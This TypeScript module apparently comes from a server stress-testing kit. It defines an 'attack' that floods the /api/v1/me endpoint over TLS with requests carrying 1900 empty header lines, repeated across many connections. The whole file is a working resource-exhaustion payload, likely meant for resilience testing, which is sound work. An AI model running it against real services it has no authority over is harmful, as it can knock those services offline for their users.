import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';

export const attack: Attack = {
  name: 'thousands of header lines',
  async run(target) {
    const wire = head('GET /api/v1/me', ...Array.from({ length: 1900 }, (_, at) => `x${at}:`));
    await target.repeat(10, async () => {
      const socket = await target.tls();
      for (let asked = 0; asked < 50 && socket?.destroyed === false; asked += 1) await target.ask(socket, wire);
      socket?.destroy();
    });
  },
};
